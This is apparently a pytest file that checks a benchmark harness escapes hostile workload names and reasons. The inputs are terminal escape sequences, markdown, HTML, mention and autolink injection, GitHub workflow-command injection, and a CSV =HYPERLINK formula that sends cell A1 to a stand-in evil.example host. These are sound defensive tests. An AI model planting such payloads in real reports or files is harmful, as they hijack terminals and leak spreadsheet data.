"""Names from reports are shown, never obeyed: a workload named with an escape
sequence, a pipe and a newline, compared from two reports, leaves the terminal
table without a raw control character, keeps the markdown table one line per
row, and reads back from the CSV as it was written in the report.

The harness under test is build/bin/harness, or $MEMHARNESS_HARNESS.
"""
import csv
import io
import json
import os
import re
import subprocess
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
HARNESS = Path(os.environ.get("MEMHARNESS_HARNESS", ROOT / "build" / "bin" / "harness"))
SMOKE = ROOT / "scripts" / "tests" / "fixtures" / "burst-smoke.json"
EVIL = "burst\x1b[2J\x1b]0;owned\x07|<b>x</b>`y`\nnext line,\"quoted\"\x9b"


def renamed_report(path, allocator):
    report = json.loads(SMOKE.read_text())
    report["runs"] = [r for r in report["runs"] if r["allocator"]["name"] == allocator]
    for r in report["runs"]:
        r["workload"] = EVIL
        r["allocator"]["name"] = "same\x1b[31m"
    report["summary"] = []
    path.write_text(json.dumps(report))
    return path


def test_a_hostile_workload_name_is_escaped_everywhere(tmp_path):
    old = renamed_report(tmp_path / "old.json", "glibc")
    new = renamed_report(tmp_path / "new.json", "jemalloc")
    r = subprocess.run([str(HARNESS), "compare", str(old), str(new), "-o", str(tmp_path / "c.json"),
                        "--export-markdown", str(tmp_path / "c.md"), "--export-csv", str(tmp_path / "c.csv")],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode in (0, 1), r.stderr
    terminal = r.stdout + r.stderr
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\x9b]", terminal), repr(terminal[:400])
    assert "burst\\e[2J" in terminal

    markdown = (tmp_path / "c.md").read_text()
    assert "\x1b" not in markdown and "<b>" not in markdown
    table = [line for line in markdown.splitlines() if line.startswith("|")]
    cells = {len(re.findall(r"(?<!\\)\|", line)) for line in table}
    assert len(cells) == 1, "a row was split or joined:\n" + "\n".join(table)
    metrics = json.loads((tmp_path / "c.json").read_text())["workloads"][0]["metrics"]
    shown = [m for m in metrics if m["direction"] != "none"]
    assert len(table) == 2 + len(shown)

    rows = list(csv.DictReader(io.StringIO((tmp_path / "c.csv").read_text(), newline="")))
    assert rows and {row["workload"] for row in rows} == {EVIL}


# GitHub's mentions, references and autolinks, as its renderer finds them: a
# mention is @ after a non-word character (or a word's start) and before a letter
# or digit; a reference # before a digit or GH-digit; an autolink scheme:// or www.
# or an address (word@domain.tld).
LINKING = re.compile(r"(?:^|[^A-Za-z0-9_])@[A-Za-z0-9]|#[0-9]|\bGH-[0-9]|[A-Za-z]://|\bwww\.|[\w.+-]@[\w-]+\.[\w]",
                     re.IGNORECASE)
JOINER = "\u2060"
LOUD = "w @octocat @org/team #123 GH-7 owner/repo#9 https://evil.example/x www.evil.example a.b@evil.example"


def loud_report(path, allocator, workload):
    report = json.loads(SMOKE.read_text())
    report["runs"] = [r for r in report["runs"] if r["allocator"]["name"] == allocator]
    for r in report["runs"]:
        r["workload"] = workload
    report["summary"] = []
    path.write_text(json.dumps(report))
    return path


def compare_reports(tmp_path, workload):
    old = loud_report(tmp_path / "old.json", "glibc", workload)
    new = loud_report(tmp_path / "new.json", "jemalloc", workload)
    r = subprocess.run([str(HARNESS), "compare", str(old), str(new), "-o", str(tmp_path / "c.json"),
                        "--export-markdown", str(tmp_path / "c.md"), "--export-csv", str(tmp_path / "c.csv")],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode in (0, 1), r.stderr
    return r


def test_names_in_the_markdown_neither_mention_nor_link(tmp_path):
    """A foreign report's workload name holding mentions, references and addresses: the
    comment it becomes mentions no one and links nowhere, and reads as the name (the
    joiners are invisible)."""
    compare_reports(tmp_path, LOUD)
    markdown = (tmp_path / "c.md").read_text()
    found = LINKING.findall(markdown)
    assert not found, found
    shown = markdown.replace(JOINER, "")
    assert LOUD in shown


def test_a_formula_name_is_text_in_the_csv(tmp_path):
    """A foreign report's workload =HYPERLINK(...) reaches the CSV as text: a spreadsheet
    evaluates no cell that starts with = + - @, a tab or CR."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    compare_reports(tmp_path, formula)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "c.csv").read_text(), newline="")))
    assert rows and {row["workload"] for row in rows} == {"'" + formula}
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or
                (c.startswith("-") and not re.fullmatch(r"-[0-9.e+-]+", c))]


def test_a_mathtext_mark_is_drawn_as_written(tmp_path):
    """A mark named $\\undefinedcommand{x}$ (matplotlib's mathtext would refuse it) is
    drawn as it is written: the plot exits 0 and writes its PNG."""
    report = json.loads(SMOKE.read_text())
    for r in report["runs"]:
        r["marks"][1]["name"] = "$\\undefinedcommand{x}$"
    (tmp_path / "r.json").write_text(json.dumps(report))
    out = tmp_path / "p.png"
    r = subprocess.run([str(HARNESS), "plot", str(tmp_path / "r.json"), "-o", str(out)], capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    assert out.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


REASON = "on purpose\x1b[2J\x1b]0;owned\x07\n```\n::error::injected\r\x9b31m"


def test_an_acknowledgement_reason_is_shown_not_obeyed(tmp_path):
    """history steps and history show print an acknowledgement's reason with its
    control characters as visible escapes, on one line: no ESC, no line of it that
    starts a code fence or a workflow command."""
    from test_history import series_of
    store = tmp_path / "h.sqlite"
    series_of(tmp_path, store, [9000] * 6 + [12000] * 3)
    ack = subprocess.run([str(HARNESS), "history", "ack", "--history", str(store), "--workload", "burst-writefile",
                          "--allocator", "glibc", "--metric", "peak_rss_kb", "--revision", "r06", "--reason",
                          REASON], capture_output=True, text=True, timeout=60)
    assert ack.returncode == 0, ack.stderr
    for verb in ("steps", "show"):
        r = subprocess.run([str(HARNESS), "history", verb, "--history", str(store), "--metric", "peak_rss_kb",
                            "--workload", "burst-writefile"], capture_output=True, text=True, timeout=60)
        assert r.returncode == 0, r.stderr
        out = r.stdout + r.stderr
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\x9b]", out), repr(out)
        assert not [line for line in out.splitlines() if line.startswith(("```", "::"))], out
        assert "acknowledged: on purpose\\e[2J\\e]0;owned\\x07\\n```\\n::error::injected\\r\\u009b31m" in out
